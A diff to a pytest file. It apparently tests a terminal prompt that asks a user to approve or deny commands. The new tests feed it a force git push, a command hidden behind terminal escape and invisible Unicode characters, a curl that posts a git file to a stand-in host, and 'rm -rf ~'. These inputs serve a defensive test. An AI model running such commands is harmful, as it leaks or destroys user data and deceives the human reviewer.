@@ -8,6 +8,7 @@ import os
 import signal
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 
@@ -192,6 +193,25 @@ def test_an_edit_is_shown_with_its_diff(tmp_path):
         assert "│   -one\n│   +two\n" in window.waits_for(KEYS)
 
 
+SCREENS = {
+    "push-80": (PUSH, 80),
+    "push-40": (PUSH, 40),
+    "wrapped-80": ("cd /tmp && env A=1 timeout 5 git push --force origin main", 80),
+    "hidden-40": (f"{PUSH} # \x1b[2J\u202e\u200b日本語", 40),
+    "sent-40": ("curl -d @.git/HEAD https://a.example/x", 40),
+}
+
+
+@pytest.mark.parametrize("name", SCREENS)
+def test_a_screen_is_as_it_was_looked_at(tmp_path, name):
+    """Compared with the text in `screens`; where it differs on purpose, look at the new one and write it there."""
+    command, columns = SCREENS[name]
+    with Question(tmp_path, command, columns=columns) as window:
+        shown = window.waits_for(TELL)
+        kept = Path(__file__).parent / "screens" / f"{name}.txt"
+        assert kept.read_text("utf-8") == shown + "\n"
+
+
 # --- more than yes and no --------------------------------------------------------------------------------------------
 
 
@@ -292,6 +312,18 @@ def test_an_interrupt_from_elsewhere_denies_and_gives_the_terminal_back(tmp_path
         window.waits_for(KEYS)
         os.kill(window.process.pid, signal.SIGINT)
         assert refusal(window.reply()) == REFUSED | {"interrupt": True} and window.restored
+
+
+def test_what_is_denied_is_not_asked_about(tmp_path):
+    with Question(tmp_path, "rm -rf ~") as window:
+        assert refusal(window.reply()) == REFUSED and b"" == window.raw
+
+
+def test_a_thread_can_ask(tmp_path):
+    with Question(tmp_path, PUSH, {"threaded": True}) as window:
+        window.waits_for(KEYS)
+        window.press("y")
+        assert "once" == window.reply()["answer"] and window.restored
 
 
 def test_a_program_in_the_background_is_not_stopped_and_denies(tmp_path):
